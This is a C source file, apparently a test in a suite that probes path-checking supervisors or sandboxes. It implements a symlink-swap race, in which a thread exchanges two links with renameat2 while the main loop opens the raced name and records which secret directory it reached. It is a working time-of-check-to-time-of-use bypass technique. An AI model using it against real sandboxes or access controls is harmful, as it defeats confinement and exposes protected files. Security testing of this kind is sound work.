/*
 * race_symlink DIRECTORY ATTEMPTS: a link is exchanged between the verdict and the kernel's walk.
 *
 * Two symbolic links lead to dirs/secret-A and to dirs/secret-D. A thread exchanges them under the
 * one name that is opened; no name in memory changes. It is for supervisors that judge the names
 * that links lead to. Where an open got to is told by the name of the directory.
 */
#include "attack.h"

#include <linux/fs.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>

static const char *raced, *spare;
static _Atomic int ready, over;

static void *exchange(void *unused)
{
    while (!over) {
        if (syscall(SYS_renameat2, AT_FDCWD, raced, AT_FDCWD, spare, RENAME_EXCHANGE) != 0)
            break;
        ready = 1;
    }
    ready = 1;
    return unused;
}

/* The trailing slash keeps the link itself from being a call that names secret-D. */
static const char *link_to(const char *directory, const char *name)
{
    char *target, *made = attack_path(name);

    if (asprintf(&target, "%s/", attack_path(directory)) < 0)
        attack_fail("asprintf");
    if (symlink(target, made) != 0)
        attack_fail(made);
    return made;
}

static void count(int fd)
{
    char here[PATH_MAX];
    char last = '?';

    if (fd < 0) {
        attack_count(0);
        return;
    }
    if (fchdir(fd) == 0 && getcwd(here, sizeof here) != NULL)
        last = here[strlen(here) - 1];
    close(fd);
    attack_count(last);
}

int main(int argc, char **argv)
{
    pthread_t thread;

    attack_begin(argc, argv);
    raced = link_to("dirs/secret-A", "scratch/raced");
    spare = link_to("dirs/secret-D", "scratch/spare");
    if (pthread_create(&thread, NULL, exchange, NULL) != 0)
        attack_fail("pthread_create");
    while (!ready)
        sched_yield();
    for (long i = 0; i < attack.attempts; i++)
        count(open(raced, O_RDONLY | O_DIRECTORY | O_CLOEXEC));
    over = 1;
    pthread_join(thread, NULL);
    return attack_report();
}
